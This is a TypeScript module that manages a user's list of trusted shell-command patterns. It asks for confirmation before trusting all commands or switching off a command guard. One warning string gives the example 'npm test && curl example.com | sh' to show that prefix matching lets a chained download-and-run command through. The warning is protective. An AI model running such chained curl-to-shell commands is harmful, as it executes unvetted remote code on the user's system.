import type { TrustEntry, TrustScope } from '../../bridge'
import type { Question, WindowHost } from '../../ui/host'
import type { Taken, TrustStore } from './store.svelte'
import type { Step } from './steps'
import { trustEveryCommand } from './wording'

// What a person does with the list. Trusting every command is asked once more,
// whichever way it comes about.

type Asker = Pick<WindowHost, 'confirm'>

export async function add(host: Asker, store: TrustStore, entry: TrustEntry): Promise<boolean> {
  return (await agreed(host, [entry.pattern], entry.scope)) && store.add(entry)
}

export async function edit(
  host: Asker,
  store: TrustStore,
  from: TrustEntry,
  to: TrustEntry,
): Promise<boolean> {
  return (await agreed(host, [to.pattern], to.scope)) && store.edit(from, to)
}

export async function takeOver(host: Asker, store: TrustStore, taken: Taken): Promise<boolean> {
  return (await agreed(host, taken.patterns, 'always')) && store.import(taken)
}

/** Undoes a step, the last one when none is named. */
export async function undo(host: Asker, store: TrustStore, step?: Step): Promise<boolean> {
  await store.settled() // a second press while the first is still at work means the step before
  const wanted = step ?? store.last
  if (!wanted) return false
  const { trustsAll } = wanted
  return (!trustsAll || (await host.confirm(trustEveryCommand(trustsAll)))) && store.undo(wanted)
}

const withoutGuard: Question = {
  message: 'Switch the command guard off?',
  detail:
    'A trusted prefix such as “npm *” then also runs “npm test && curl example.com | sh” without asking: only the beginning of a command is compared.',
  primary: 'Switch Off',
}

export async function setGuard(host: Asker, store: TrustStore, on: boolean): Promise<boolean> {
  return (on || (await host.confirm(withoutGuard))) && store.setGuard(on)
}

async function agreed(host: Asker, patterns: readonly string[], scope: TrustScope): Promise<boolean> {
  return !patterns.includes('*') || host.confirm(trustEveryCommand(scope))
}
